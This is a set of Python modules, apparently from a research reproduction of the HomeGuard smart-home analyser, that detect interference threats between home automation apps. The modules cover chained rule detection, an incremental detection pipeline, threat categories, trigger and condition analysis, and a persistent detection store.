                        devices=dict(entry.get("devices", {})),
                        values=dict(entry.get("values", {})),
                    )
                )
            except (TypeError, KeyError, ValueError):
                continue
        device_types = frontend.get("device_types", {})
        if isinstance(device_types, dict):
            self.config_recorder.device_types.update(device_types)
        extra = frontend.get("extra", {})
        self.frontend_state = dict(extra) if isinstance(extra, dict) else {}
        rulesets = snapshot.rulesets()
        result = self.store.restore_into(
            self.pipeline, list(rulesets.values()), snapshot=snapshot
        )
        for ruleset in rulesets.values():
            self.rule_recorder.record(ruleset)
        rules_by_id = {
            rule.rule_id: rule
            for ruleset in rulesets.values()
            for rule in ruleset.rules
        }
        for entry in frontend.get("allowed", []):
            try:
                type_value, id_a, id_b = entry
                threat_type = ThreatType(type_value)
            except (TypeError, ValueError):
                continue
            rule_a, rule_b = rules_by_id.get(id_a), rules_by_id.get(id_b)
            if rule_a is not None and rule_b is not None:
                self.allowed.add(
                    Threat(type=threat_type, rule_a=rule_a, rule_b=rule_b)
                )
        # Replay the persisted review/decision history so past install
        # screens re-render after a warm restart.  Threats mentioning
        # rules that did not restore are dropped from their review;
        # malformed review entries are skipped entirely.
        for entry in frontend.get("reviews", []):
            try:
                review = InstallReview(
                    app_name=str(entry["app"]),
                    rules=[str(rule) for rule in entry.get("rules", [])],
                    decision=(
                        str(entry["decision"])
                        if entry.get("decision") is not None
                        else None
                    ),
                    decided_by=(
                        str(entry["decided_by"])
                        if entry.get("decided_by") is not None
                        else None
                    ),
                )
            except (TypeError, KeyError, ValueError):
                continue
            for kind, into in (
                ("threats", review.threats),
                ("chains", review.chains),
            ):
                for record in entry.get(kind, []):
                    threat = _threat_from_record(record, rules_by_id)
                    if threat is not None:
                        into.append(threat)
            self.reviews.append(review)
        # Binding changes surface as fresh reviews, exactly like a
        # re-sent configuration payload would.
        for report in result.reports:
            ruleset = rulesets.get(report.app_name)
            self.reviews.append(
                InstallReview(
                    app_name=report.app_name,
                    rules=[describe_rule(r) for r in ruleset.rules]
                    if ruleset else [],
                    threats=report.threats,
                    chains=find_chains(report.threats, self.allowed),
                )
            )
        # Registered home devices came back with the frontend blob;
        # rebuild the label registry so future installs keep resolving.
        home_devices = self.frontend_state.get("home_devices", {})
        if isinstance(home_devices, dict):
            for label, entry in home_devices.items():
                try:
                    self.home_devices[label] = InstalledDevice(
                        device_id=entry["device_id"],
                        label=label,
                        type_name=entry["type"],
                    )
                except (TypeError, KeyError):
                    continue  # malformed entry: that label won't resolve
        return result.warm_apps + result.stale_apps
