"""Chained CAI threat detection (paper §VI-D).

Users may accept a flagged pair and install anyway; accepted pairs are
recorded in the ``Allowed`` list.  When a new app arrives, the pairwise
results are combined with the Allowed list to find *long-chained* rules:
R1 triggers R2 triggers R3 ... — e.g. the paper's CurlingIron ->
SwitchChangesMode -> MakeItSo chain that unlocks a door on motion.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.detector.types import Threat, ThreatType
from repro.rules.model import Rule

_CHAINABLE = (ThreatType.COVERT_TRIGGERING,)
_MAX_CHAIN_LENGTH = 6


@dataclass(slots=True)
class AllowedList:
    """Rule pairs the user has already accepted, kept bottom-up from the
    first app installed in the home."""

    pairs: list[Threat] = field(default_factory=list)

    def add(self, threat: Threat) -> None:
        self.pairs.append(threat)

    def add_all(self, threats: list[Threat]) -> None:
        for threat in threats:
            if threat.type in _CHAINABLE:
                self.pairs.append(threat)

    def triggering_edges(self) -> list[tuple[Rule, Rule]]:
        return [
            (threat.rule_a, threat.rule_b)
            for threat in self.pairs
            if threat.type in _CHAINABLE
        ]


def find_chains(
    new_threats: list[Threat],
    allowed: AllowedList,
) -> list[Threat]:
    """Combine the new pairwise results with the Allowed list and search
    for triggering chains of length >= 2 edges involving a new rule."""
    edges: dict[str, list[tuple[Rule, Rule]]] = {}
    new_rule_ids: set[str] = set()
    all_edges: list[tuple[Rule, Rule]] = []
    for threat in new_threats:
        if threat.type in _CHAINABLE:
            all_edges.append((threat.rule_a, threat.rule_b))
            new_rule_ids.add(threat.rule_a.rule_id)
            new_rule_ids.add(threat.rule_b.rule_id)
    all_edges.extend(allowed.triggering_edges())
    for source, target in all_edges:
        edges.setdefault(source.rule_id, []).append((source, target))

    chains: list[Threat] = []
    seen: set[tuple[str, ...]] = set()

    def extend(path: list[Rule]) -> None:
        if len(path) > _MAX_CHAIN_LENGTH:
            return
        head = path[-1]
        for _source, target in edges.get(head.rule_id, []):
            if any(target.rule_id == rule.rule_id for rule in path):
                continue  # avoid cycles (loops are LT's business)
            longer = path + [target]
            if len(longer) >= 3:
                key = tuple(rule.rule_id for rule in longer)
                involves_new = any(
                    rule.rule_id in new_rule_ids for rule in longer
                )
                if key not in seen and involves_new:
                    seen.add(key)
                    chains.append(_chain_threat(longer))
            extend(longer)

    for source, _target in all_edges:
        extend([source])
    return chains


def _chain_threat(path: list[Rule]) -> Threat:
    hops = " -> ".join(
        f"{rule.app_name}({rule.action.subject}.{rule.action.command})"
        for rule in path
    )
    return Threat(
        type=ThreatType.CHAINED,
        rule_a=path[0],
        rule_b=path[-1],
        detail=f"covert rule chain: {hops}",
        chain=tuple(path),
    )
