"""Incremental detection pipeline (layer 3, DESIGN.md §4).

Maintains the inverted :class:`~repro.detector.index.RuleIndex` across
app installations so that installing app N+1 only examines
index-selected candidate pairs, never the O(N²) all-pairs scan.  The
pipeline mirrors the companion app's review flow:

* :meth:`DetectionPipeline.detect` signs the new app's rules, queries
  the index for candidates, and returns the threat report *without*
  changing the installed state (the rules are staged);
* :meth:`DetectionPipeline.commit` / :meth:`DetectionPipeline.discard`
  apply the user's one-time decision (keep vs delete/reconfigure);
* :meth:`DetectionPipeline.add_ruleset` is detect+commit in one step —
  the store-audit building block;
* :meth:`DetectionPipeline.remove_ruleset` un-indexes an app and purges
  every cached solve involving it.

For every corpus the pipeline reports exactly the same threat set as
the brute-force :meth:`DetectionEngine.detect_rulesets` baseline (the
index returns a provable superset of each threat class's candidates,
and the engine's exact pairwise tests run unchanged on them).

With a :class:`~repro.constraints.dispatch.SolverDispatcher` configured
(``dispatcher=`` / ``workers=``), detection switches to the plan/execute
mode of DESIGN.md §9: :meth:`detect` plans every candidate pair of the
install before dispatching one solve batch, and :meth:`audit_store`
plans across *all* apps of the audit and dispatches one store-wide
batch — the fan-out point that lets process workers absorb the solver
loop (and, with pooled backends, the planning passes too: the engine
shards the pair list into chunks workers plan and solve independently,
DESIGN.md §10).  Candidate pairs are prescreened with
:func:`~repro.detector.signature.may_interfere` before any of that
happens, so provably inert pairs never reach planning.  Threat
reports, caches and persisted stores are identical to the inline path
for every backend and worker count.
"""

from __future__ import annotations

from typing import Iterable

from repro.constraints.builder import DeviceResolver
from repro.constraints.dispatch import SolverDispatcher, make_dispatcher
from repro.detector.engine import DetectionEngine
from repro.detector.index import RuleIndex, ShardedRuleIndex
from repro.detector.signature import RuleSignature, may_interfere
from repro.detector.types import ThreatReport
from repro.rules.model import RuleSet


class DetectionPipeline:
    """Signature -> index -> candidate detection over installed apps."""

    def __init__(
        self,
        resolver: DeviceResolver,
        include_intra_app: bool = True,
        index: RuleIndex | ShardedRuleIndex | None = None,
        dispatcher: SolverDispatcher | int | str | None = None,
        shared_cache=None,
    ) -> None:
        # ``shared_cache`` is an optional cross-tenant solve-cache
        # backend (DESIGN.md §12), owned by whoever created it — the
        # pipeline never closes it.
        self.engine = DetectionEngine(resolver, shared_cache=shared_cache)
        # Any object with the RuleIndex query/maintenance interface
        # works; multi-home fleets pass a ShardedRuleIndex so lookups
        # (and persisted snapshots) stay per home.
        self.index = RuleIndex() if index is None else index
        self.include_intra_app = include_intra_app
        # None keeps the inline solve path; anything else (a dispatcher
        # instance, a worker count, or a "process:4"-style spec) routes
        # detection through plan/execute batches.
        self.dispatcher = make_dispatcher(dispatcher)
        self._installed: dict[str, list[RuleSignature]] = {}
        self._staged: dict[str, list[RuleSignature]] = {}
        # Apps that ever passed through the engine: anything else has no
        # cached state, so invalidation can skip the cache scans.
        self._seen: set[str] = set()

    # ------------------------------------------------------------------
    # State

    def installed_apps(self) -> list[str]:
        return sorted(self._installed)

    @property
    def stats(self):
        return self.engine.stats

    def signatures_of(self, app_name: str) -> list[RuleSignature]:
        return list(self._installed.get(app_name, ()))

    def installed_signatures(self) -> dict[str, list[RuleSignature]]:
        """Installed signatures per app, in installation order — the
        state a :class:`~repro.detector.store.DetectionStore` snapshots."""
        return {app: list(sigs) for app, sigs in self._installed.items()}

    def close(self) -> None:
        """Release dispatcher workers, if any were started."""
        if self.dispatcher is not None:
            self.dispatcher.close()

    # ------------------------------------------------------------------
    # Detection

    def _stage(self, ruleset: RuleSet) -> list[RuleSignature]:
        sigs = self.engine.signatures.sign_ruleset(ruleset)
        self._staged[ruleset.app_name] = sigs
        self._seen.add(ruleset.app_name)
        return sigs

    def _candidate_pairs(
        self, sigs: list[RuleSignature], app_name: str
    ) -> list[tuple[RuleSignature, RuleSignature]]:
        """The exact pair sequence one install examines, in the order
        the inline path solves them (index candidates per rule, then
        the app's own intra-app pairs).

        Index candidates are prescreened with :func:`may_interfere`
        (DESIGN.md §10): a single-key index collision is necessary but
        not sufficient for a threat, and pairs the constant-time
        intersection tests prove inert are dropped here — before any
        planning pass walks them or a constraint term is built.  The
        prune is exact (a pruned pair performs no solver lookup and
        reports no threat), so threat sets, solver calls and caches are
        unchanged; ``prescreen_pruned_pairs`` / ``planned_pairs`` are
        attributed here, exactly once per examined candidate."""
        stats = self.engine.stats
        pairs: list[tuple[RuleSignature, RuleSignature]] = []
        for sig in sigs:

            def prescreen(other: RuleSignature, _sig=sig) -> bool:
                if may_interfere(_sig, other):
                    return True
                stats.prescreen_pruned_pairs += 1
                return False

            for other in self.index.candidates(
                sig, exclude_app=app_name, prescreen=prescreen
            ):
                pairs.append((sig, other))
        if self.include_intra_app:
            for i, sig_a in enumerate(sigs):
                for sig_b in sigs[i + 1:]:
                    if may_interfere(sig_a, sig_b):
                        pairs.append((sig_a, sig_b))
                    else:
                        stats.prescreen_pruned_pairs += 1
        stats.planned_pairs += len(pairs)
        return pairs

    def detect(self, ruleset: RuleSet) -> ThreatReport:
        """Detect threats between a (new or updated) app and every
        installed app, plus the app's own rule pairs.

        The app's signatures are *staged*; call :meth:`commit` to make
        them part of the installed index, or :meth:`discard` to drop
        them.  The app's own previously installed rules are excluded, so
        re-reviewing an installed app matches the brute-force run over
        "all installed apps except itself".

        With a dispatcher configured the install's candidate pairs are
        planned first and solved as one batch (DESIGN.md §9).
        """
        sigs = self._stage(ruleset)
        report = ThreatReport(app_name=ruleset.app_name)
        pairs = self._candidate_pairs(sigs, ruleset.app_name)
        if self.dispatcher is None:
            for sig_a, sig_b in pairs:
                report.threats.extend(self.engine.detect_signed(sig_a, sig_b))
        else:
            for threats in self.engine.detect_signed_batch(
                pairs, self.dispatcher
            ):
                report.threats.extend(threats)
        return report

    # ------------------------------------------------------------------
    # Installation state changes

    def commit(self, app_name: str, ruleset: RuleSet | None = None) -> None:
        """Install the staged rules of ``app_name`` into the index,
        replacing any previous installation of the same app.  When
        nothing is staged (e.g. a decision replayed after the staging
        was dropped), ``ruleset`` is signed fresh as a fallback."""
        sigs = self._staged.pop(app_name, None)
        if sigs is None:
            if ruleset is None:
                return
            sigs = self.engine.signatures.sign_ruleset(ruleset)
        if self._installed.pop(app_name, None) is not None:
            # Replace in the index only; the staged signatures (and the
            # solves just performed for them) reflect the current
            # configuration and stay valid.
            self.index.remove_app(app_name)
        self._installed[app_name] = sigs
        self._seen.add(app_name)
        self.index.add_ruleset(sigs)

    def discard(self, app_name: str) -> None:
        """Drop staged (not yet committed) rules of an app."""
        self._staged.pop(app_name, None)

    def add_ruleset(self, ruleset: RuleSet) -> ThreatReport:
        """Detect and immediately install — one incremental audit step."""
        report = self.detect(ruleset)
        self.commit(ruleset.app_name)
        return report

    def restore_ruleset(self, ruleset: RuleSet) -> None:
        """Install an app *without* running detection — the warm-start
        path (DESIGN.md §8).

        Used when a persisted store already holds this exact
        installation (fingerprint-validated): the rules are re-signed
        under the current bindings (cheap, no solver) and indexed, so
        later installs see the app as a candidate partner while its
        past reviews stay served from the imported solve caches."""
        # Exactly a commit with nothing staged; drop any leftover
        # staging first so the fresh ruleset is what gets signed.
        self.discard(ruleset.app_name)
        self.commit(ruleset.app_name, ruleset)

    def remove_ruleset(self, app_name: str) -> None:
        """Uninstall an app: un-index its rules and purge cached solves
        involving them (a reinstall may carry a new configuration)."""
        if self._installed.pop(app_name, None) is None:
            return
        self.index.remove_app(app_name)
        self.engine.invalidate_app(app_name)

    def invalidate_app(self, app_name: str) -> None:
        """Forget cached signatures/solves for an app whose resolver
        bindings (configuration) may have changed, keeping it installed.

        If the app is installed, its rules are re-signed under the
        current bindings and re-indexed, so detection against it keeps
        tracking the recorded configuration (exactly like the
        brute-force flow, which re-derived identities every review)."""
        if app_name not in self._seen:
            return  # nothing cached: skip the cache scans entirely
        self.engine.invalidate_app(app_name)
        sigs = self._installed.get(app_name)
        if sigs:
            self.index.remove_app(app_name)
            fresh = self.engine.signatures.sign_ruleset(
                RuleSet(app_name=app_name, rules=[s.rule for s in sigs])
            )
            self._installed[app_name] = fresh
            self.index.add_ruleset(fresh)

    # ------------------------------------------------------------------
    # Store-scale audit

    def audit_store(self, rulesets: Iterable[RuleSet]) -> list[ThreatReport]:
        """Audit a whole repository by incremental installation; the
        union of the reports covers every rule pair exactly once.

        With a dispatcher configured, staging/indexing still proceeds
        app by app (candidate selection needs the growing index) but
        the solver work of the *entire* audit is planned first and
        dispatched as one store-wide batch — the batch is the fan-out
        point for thread/process workers, and the resulting reports,
        caches and store bytes match the inline audit exactly."""
        if self.dispatcher is None:
            return [self.add_ruleset(ruleset) for ruleset in rulesets]
        stats = self.engine.stats
        pruned_before = stats.prescreen_pruned_pairs
        planned_before = stats.planned_pairs
        all_pairs: list[tuple[RuleSignature, RuleSignature]] = []
        spans: list[tuple[str, int, int]] = []
        for ruleset in rulesets:
            sigs = self._stage(ruleset)
            start = len(all_pairs)
            all_pairs.extend(self._candidate_pairs(sigs, ruleset.app_name))
            spans.append((ruleset.app_name, start, len(all_pairs)))
            self.commit(ruleset.app_name)
        try:
            threat_lists = self.engine.detect_signed_batch(
                all_pairs, self.dispatcher
            )
        except Exception:
            # A failed dispatch (e.g. a broken worker pool) must not
            # leave this audit's apps installed-but-unaudited: the
            # serial path only ever commits fully audited apps, so
            # un-index everything staged here before propagating.  The
            # prescreen counters attributed while staging are unwound
            # too, so a retried audit doesn't double-count them.
            for app_name, _start, _end in reversed(spans):
                self.remove_ruleset(app_name)
            stats.prescreen_pruned_pairs = pruned_before
            stats.planned_pairs = planned_before
            raise
        reports: list[ThreatReport] = []
        for app_name, start, end in spans:
            report = ThreatReport(app_name=app_name)
            for threats in threat_lists[start:end]:
                report.threats.extend(threats)
            reports.append(report)
        return reports
