"""Threat categories and records (paper Table I)."""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from repro.rules.model import Rule


class ThreatType(enum.Enum):
    """The seven CAI threat categories of Table I (plus chains)."""

    ACTUATOR_RACE = "AR"
    GOAL_CONFLICT = "GC"
    COVERT_TRIGGERING = "CT"
    SELF_DISABLING = "SD"
    LOOP_TRIGGERING = "LT"
    ENABLING_CONDITION = "EC"
    DISABLING_CONDITION = "DC"
    CHAINED = "CHAIN"

    @property
    def category(self) -> str:
        if self in (ThreatType.ACTUATOR_RACE, ThreatType.GOAL_CONFLICT):
            return "Action-Interference"
        if self in (
            ThreatType.COVERT_TRIGGERING,
            ThreatType.SELF_DISABLING,
            ThreatType.LOOP_TRIGGERING,
        ):
            return "Trigger-Interference"
        if self in (ThreatType.ENABLING_CONDITION, ThreatType.DISABLING_CONDITION):
            return "Condition-Interference"
        return "Chained"

    @property
    def pattern(self) -> str:
        """The formal pattern column of Table I."""
        return _PATTERNS[self]


_PATTERNS = {
    ThreatType.ACTUATOR_RACE: "T1 = T2, C1 ∩ C2 ≠ ∅, A1 = ¬A2",
    ThreatType.GOAL_CONFLICT: "(T1 ∪ C1) ∩ (T2 ∪ C2) ≠ ∅, G(A1) = ¬G(A2)",
    ThreatType.COVERT_TRIGGERING: "A1 ↦ T2, C1 ∩ C2 ≠ ∅",
    ThreatType.SELF_DISABLING: "A1 ↦ T2, C1 ∩ C2 ≠ ∅, A2 = ¬A1",
    ThreatType.LOOP_TRIGGERING: "A1 ↦ T2, A2 ↦ T1, C1 ∩ C2 ≠ ∅, A1 = ¬A2",
    ThreatType.ENABLING_CONDITION: "A1 ⇒ C2",
    ThreatType.DISABLING_CONDITION: "A1 ⇏ C2",
    ThreatType.CHAINED: "A1 ↦ T2, ..., A(n-1) ↦ Tn",
}


@dataclass(frozen=True, slots=True)
class Threat:
    """One detected CAI threat instance.

    ``rule_a`` is the interfering rule (its action does the interfering)
    and ``rule_b`` the interfered rule; for symmetric threats (AR, GC,
    LT) the order carries no meaning.  ``witness`` is a satisfying home
    situation produced by the solver, used by the frontend to explain
    *when* the threat manifests.
    """

    type: ThreatType
    rule_a: Rule
    rule_b: Rule
    detail: str = ""
    witness: tuple[tuple[str, object], ...] = ()
    chain: tuple[Rule, ...] = ()

    @property
    def apps(self) -> tuple[str, str]:
        return (self.rule_a.app_name, self.rule_b.app_name)

    @property
    def directed(self) -> bool:
        return self.type in (
            ThreatType.COVERT_TRIGGERING,
            ThreatType.SELF_DISABLING,
            ThreatType.ENABLING_CONDITION,
            ThreatType.DISABLING_CONDITION,
            ThreatType.CHAINED,
        )


@dataclass(slots=True)
class ThreatReport:
    """All threats found while installing one app."""

    app_name: str
    threats: list[Threat] = field(default_factory=list)

    def __iter__(self):
        return iter(self.threats)

    def __len__(self) -> int:
        return len(self.threats)

    def by_type(self) -> dict[ThreatType, list[Threat]]:
        grouped: dict[ThreatType, list[Threat]] = {}
        for threat in self.threats:
            grouped.setdefault(threat.type, []).append(threat)
        return grouped

    def count(self, threat_type: ThreatType) -> int:
        return sum(1 for threat in self.threats if threat.type is threat_type)
