"""Shared action/trigger/condition analysis primitives.

These implement the candidate tests of paper §VI: contradictory-command
detection for AR/SD/LT, goal analysis for GC, the two triggering ways
(direct state change / environment channel) for CT, and the two
condition-affecting ways for EC/DC.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.capabilities.channels import channel_for_attribute
from repro.capabilities.effects import Effect, effects_of_command
from repro.capabilities.registry import find_command
from repro.constraints.builder import DeviceResolver
from repro.rules.model import Action, Rule, Trigger
from repro.symex.values import (
    BinExpr,
    Const,
    DeviceAttr,
    EventValue,
    LocalVar,
    NotExpr,
    SymExpr,
)

# Pseudo-subjects whose "actions" cannot interfere with devices.
NON_DEVICE_SUBJECTS = {"notification", "network", "hub", "event", "camera"}


def action_identity(
    resolver: DeviceResolver, rule: Rule
) -> tuple[str | None, str | None]:
    """(identity key, device type) of the action's target actuator.

    Location-mode actions get the global ``location`` identity; pure
    notification/network actions resolve to ``None``.
    """
    action = rule.action
    if action.subject == "location":
        return "location:mode", "locationMode"
    if action.device is None:
        return None, None
    identity, type_name = resolver.identity(rule.app_name, action.device)
    return identity, type_name


def command_target(action: Action) -> tuple[str, str | None] | None:
    """The (attribute, value) a command statically drives its device to;
    value None when the target comes from a parameter."""
    if action.subject == "location":
        value = None
        if action.params and isinstance(action.params[0], Const):
            value = str(action.params[0].value)
        return ("mode", value)
    spec = find_command(action.command, action.capability)
    if spec is None or not spec.sets:
        return None
    attribute, value = spec.sets[0]
    if value is None and action.params and isinstance(action.params[0], Const):
        return (attribute, str(action.params[0].value))
    return (attribute, value)


def targets_contradict(
    target_a: tuple[str, str | None] | None,
    target_b: tuple[str, str | None] | None,
    action_a: Action,
    action_b: Action,
) -> bool:
    """A1 = ¬A2 over precomputed command targets (paper §VI-A1)."""
    if target_a is None or target_b is None:
        return False
    attr_a, value_a = target_a
    attr_b, value_b = target_b
    if attr_a != attr_b:
        return False
    if value_a is not None and value_b is not None:
        return value_a != value_b
    if action_a.command == action_b.command:
        # Same parameterized command: contradictory when the concrete
        # parameters provably differ.
        params_a = action_a.params
        params_b = action_b.params
        if (
            params_a
            and params_b
            and isinstance(params_a[0], Const)
            and isinstance(params_b[0], Const)
        ):
            return params_a[0].value != params_b[0].value
    return False


def actions_contradict(rule_a: Rule, rule_b: Rule) -> bool:
    """A1 = ¬A2: contradictory commands, or the same command with
    contradictory parameters (paper §VI-A1)."""
    return targets_contradict(
        command_target(rule_a.action),
        command_target(rule_b.action),
        rule_a.action,
        rule_b.action,
    )


def opposite_channels(effects_a, effects_b) -> list[str]:
    """Channels on which two effect maps push in opposite directions."""
    conflicts = []
    for channel, effect in effects_a.items():
        other = effects_b.get(channel)
        if other is not None and other is effect.opposite:
            conflicts.append(channel)
    return sorted(conflicts)


def goal_conflict_channels(
    resolver: DeviceResolver, rule_a: Rule, rule_b: Rule
) -> list[str]:
    """Channels on which the two actions have opposite effects (G(A1) =
    ¬G(A2)), using the M_GC device-type effect table."""
    _, type_a = action_identity(resolver, rule_a)
    _, type_b = action_identity(resolver, rule_b)
    if type_a is None or type_b is None:
        return []
    return opposite_channels(
        effects_of_command(type_a, rule_a.action.command),
        effects_of_command(type_b, rule_b.action.command),
    )


# ----------------------------------------------------------------------
# Trigger analysis (paper §VI-B)


@dataclass(frozen=True, slots=True)
class TriggerMatch:
    """Evidence that an action can fire a trigger."""

    way: str        # "direct" or "environment"
    channel: str | None = None


def trigger_value_constraints(trigger: Trigger) -> list[tuple[str, object]]:
    """Extract ``(op, value)`` bounds the event value must satisfy."""
    if trigger.constraint is None:
        return []
    found: list[tuple[str, object]] = []

    def visit(expr: SymExpr) -> None:
        if isinstance(expr, BinExpr):
            if expr.op in ("==", "!=", "<", "<=", ">", ">="):
                left_is_event = isinstance(expr.left, EventValue)
                right_is_event = isinstance(expr.right, EventValue)
                if left_is_event and isinstance(expr.right, Const):
                    found.append((expr.op, expr.right.value))
                elif right_is_event and isinstance(expr.left, Const):
                    flipped = {"<": ">", "<=": ">=", ">": "<", ">=": "<="}
                    found.append((flipped.get(expr.op, expr.op), expr.left.value))
            else:
                visit(expr.left)
                visit(expr.right)
        elif isinstance(expr, NotExpr):
            visit(expr.operand)

    visit(trigger.constraint)
    return found


def action_triggers(
    resolver: DeviceResolver, rule_a: Rule, rule_b: Rule
) -> TriggerMatch | None:
    """Does A1 satisfy T2 (A1 ↦ T2)?  Two ways (paper §VI-B):

    1. *direct* — the command changes a device state that is R2's
       trigger;
    2. *environment* — the command changes an environment feature sensed
       by R2's trigger sensor.
    """
    action = rule_a.action
    trigger = rule_b.trigger
    if action.subject in NON_DEVICE_SUBJECTS:
        return None
    if trigger.subject in ("install", "time", "app"):
        return None
    identity_a, type_a = action_identity(resolver, rule_a)
    # --- Way 1: direct state change -----------------------------------
    if trigger.subject == "location" or trigger.device is None:
        identity_t: str | None = "location:mode" if trigger.subject == "location" else None
    else:
        identity_t, _ = resolver.identity(rule_b.app_name, trigger.device)
    if identity_a is not None and identity_t is not None and identity_a == identity_t:
        target = command_target(action)
        if target is not None:
            attribute, value = target
            if attribute == trigger.attribute:
                bounds = trigger_value_constraints(trigger)
                if _value_satisfies(value, bounds):
                    return TriggerMatch(way="direct")
    # --- Way 2: environment channel -----------------------------------
    if type_a is None or trigger.device is None:
        return None
    channel = channel_for_attribute(trigger.attribute)
    if channel is None:
        return None
    effects = effects_of_command(type_a, action.command)
    effect = effects.get(channel.name)
    if effect is None:
        return None
    bounds = trigger_value_constraints(trigger)
    if _direction_can_satisfy(effect, bounds):
        return TriggerMatch(way="environment", channel=channel.name)
    return None


def _value_satisfies(value: str | None, bounds: list[tuple[str, object]]) -> bool:
    if not bounds:
        return True  # any state change fires the trigger
    if value is None:
        return True  # parameterized command: potentially any value
    for op, expected in bounds:
        if op == "==" and str(expected) != str(value):
            return False
        if op == "!=" and str(expected) == str(value):
            return False
    return True


def _direction_can_satisfy(
    effect: Effect, bounds: list[tuple[str, object]]
) -> bool:
    if not bounds:
        return True
    for op, _expected in bounds:
        if op in (">", ">=") and effect is Effect.INCREASE:
            return True
        if op in ("<", "<=") and effect is Effect.DECREASE:
            return True
        if op in ("==", "!="):
            return True
    return False


# ----------------------------------------------------------------------
# Condition analysis (paper §VI-C)


def condition_device_attrs(rule: Rule) -> list[DeviceAttr]:
    """Device attributes the rule's condition depends on, resolving
    local variables through the data constraints."""
    defs = {c.name: c.value for c in rule.condition.data_constraints}
    found: dict[str, DeviceAttr] = {}

    def visit(expr: SymExpr, depth: int = 0) -> None:
        if depth > 16:
            return
        for node in expr.walk():
            if isinstance(node, DeviceAttr):
                key = f"{node.device.name}.{node.attribute}"
                found.setdefault(key, node)
            elif isinstance(node, LocalVar):
                definition = defs.get(node.key)
                if definition is not None:
                    visit(definition, depth + 1)

    for predicate in rule.condition.predicate_constraints:
        visit(predicate)
    return list(found.values())


@dataclass(frozen=True, slots=True)
class ConditionTouch:
    """Evidence that an action affects a condition's inputs."""

    way: str                 # "direct" or "environment"
    attr: DeviceAttr         # the condition-side attribute touched
    channel: str | None = None
    effect: Effect | None = None


def action_touches_condition(
    resolver: DeviceResolver, rule_a: Rule, rule_b: Rule
) -> list[ConditionTouch]:
    """All ways A1 affects C2's constraint inputs (paper §VI-C)."""
    action = rule_a.action
    if action.subject in NON_DEVICE_SUBJECTS:
        return []
    identity_a, type_a = action_identity(resolver, rule_a)
    if identity_a is None:
        return []
    touches: list[ConditionTouch] = []
    effects = effects_of_command(type_a, action.command) if type_a else {}
    for attr in condition_device_attrs(rule_b):
        identity_c, _ = resolver.identity(rule_b.app_name, attr.device)
        if identity_c == identity_a:
            target = command_target(action)
            if target is not None and target[0] == attr.attribute:
                touches.append(ConditionTouch(way="direct", attr=attr))
                continue
        channel = channel_for_attribute(attr.attribute)
        if channel is not None and channel.name in effects:
            touches.append(
                ConditionTouch(
                    way="environment",
                    attr=attr,
                    channel=channel.name,
                    effect=effects[channel.name],
                )
            )
    # location.mode conditions touched by setLocationMode actions.
    return touches


def condition_uses_location_mode(rule: Rule) -> bool:
    from repro.symex.values import LocationAttr

    for predicate in rule.condition.predicate_constraints:
        for node in predicate.walk():
            if isinstance(node, LocationAttr) and node.attribute == "mode":
                return True
    return False
