"""Persistent, environment-sharded detection store (DESIGN.md §8).

The paper's engine pre-stores its M_AR / M_GC mappings so repeated
audits are cheap (§VI); this module extends that idea across *process
boundaries*: everything a :class:`~repro.detector.pipeline
.DetectionPipeline` learned during an audit — the per-rule
:class:`~repro.detector.signature.RuleSignature` facts, the inverted
:class:`~repro.detector.index.RuleIndex` buckets, and the engine's
situation/condition/effect solve caches — is serialized to a versioned
on-disk store, so a fresh process can *warm-start* and re-audit an
unchanged 5k-app store with **zero solver calls** while reporting the
exact same threat set as the cold run.

On-disk format (schema version 1)
---------------------------------

A store is a directory::

    <store>/
      meta.json         # format marker, schema version, app directory
      shard-0000.json   # one file per environment (home)
      shard-0001.json
      ...

``meta.json`` holds ``{"format", "schema", "apps": {app: {"environment",
"fingerprint"}}, "shards": {environment: filename}, "frontend": {...}}``
— the app directory is ordered by installation, and ``frontend`` is an
opaque blob the companion app uses for its configuration recorder,
Allowed list and review/decision history (past install screens and the
user's keep/delete choices re-render after a warm restart; see
:meth:`repro.frontend.app.HomeGuardApp.save_store`).

Each shard file carries one environment's slice of the detection state:
the serialized rulesets (loss-free, via :mod:`repro.rules
.serialization`), the per-rule signature records, the
:meth:`RuleIndex.to_payload` buckets, and every solve-cache entry whose
rules live in that home.  Sharding is the multi-home fleet story: a
controller restoring a single home's install parses one shard file, not
the whole snapshot (:meth:`DetectionStore.load` takes an
``environments`` filter, and :meth:`DetectionStore.load_shard_index`
rebuilds one home's index directly).

Warm-start invalidation rules
-----------------------------

Stale results are never served.  A persisted app's cached state is used
only when **all** of the following hold, and transparent re-signing
(plus re-solving) happens otherwise:

* the store's ``format`` marker and ``schema`` version match exactly —
  otherwise the whole snapshot is ignored (cold start);
* the app's shard file is present and parseable — corrupted or missing
  shards degrade only their own apps to re-signing;
* the app's *fingerprint* matches: a SHA-256 over the serialized rules,
  the signature records derived under the **current** resolver
  bindings, and the resolver-pinned input values.  Any change to the
  rules, the device bindings (identities/types/environments), or the
  configured input values changes the fingerprint, so re-binding an
  app re-solves every pair that touches it.

Solve-cache entries are imported only when every rule id they mention
belongs to a fingerprint-validated app (see
:meth:`~repro.detector.engine.DetectionEngine.import_caches`).
"""

from __future__ import annotations

import hashlib
import json
import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, Mapping

from repro.constraints.builder import DeviceResolver, environment_of
from repro.detector.engine import app_of_rule_id
from repro.detector.index import RuleIndex, ShardedRuleIndex
from repro.detector.pipeline import DetectionPipeline
from repro.detector.signature import RuleSignature, SignatureBuilder
from repro.detector.types import ThreatReport
from repro.rules.model import RuleSet
from repro.rules.serialization import rule_from_json, rule_to_json
from repro.symex.values import SymExpr, UserInput

STORE_FORMAT = "homeguard-detection-store"
SCHEMA_VERSION = 2

_META_FILE = "meta.json"


# ----------------------------------------------------------------------
# Signature records and binding fingerprints


def signature_record(sig: RuleSignature) -> dict:
    """A :class:`RuleSignature`'s derived fields as a JSON-able record.

    This is the persisted form of a signature: everything the candidate
    tests read, minus the live :class:`~repro.rules.model.Rule` object
    (rules are persisted separately, loss-free).  The record doubles as
    the binding-sensitive part of the app fingerprint — identities,
    environments, channels and effects all come from the resolver, so
    any re-binding changes the record."""
    return {
        "rule_id": sig.rule_id,
        "environment": sig.environment,
        "is_device_action": sig.is_device_action,
        "sets_location_mode": sig.sets_location_mode,
        "action_identity": sig.action_identity,
        "action_type": sig.action_type,
        "command_target": (
            list(sig.command_target) if sig.command_target else None
        ),
        "action_effects": {
            channel: effect.value
            for channel, effect in sorted(sig.action_effects.items())
        },
